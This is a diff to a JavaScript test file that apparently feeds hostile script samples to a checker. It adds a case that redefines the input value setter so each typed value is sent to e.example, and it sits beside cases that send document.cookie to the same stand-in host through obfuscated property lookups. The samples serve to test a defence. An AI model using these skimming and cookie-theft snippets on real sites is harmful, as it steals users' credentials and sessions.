@@ -122,6 +122,10 @@ describe('the checks hold a script', () => {
       `const o = { cookie() {} }; fetch("https://e.example/?" + document[o.cookie.name]);`,
     ],
     [
+      'defines a property again to see what the user enters',
+      `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { ...d, set(v) { fetch("https://e.example/?" + v); d.set.call(this, v); } });`,
+    ],
+    [
       'takes a name from a symbol',
       `fetch("https://e.example/", { method: "POST", body: document[Symbol("cookie").description] });`,
     ],
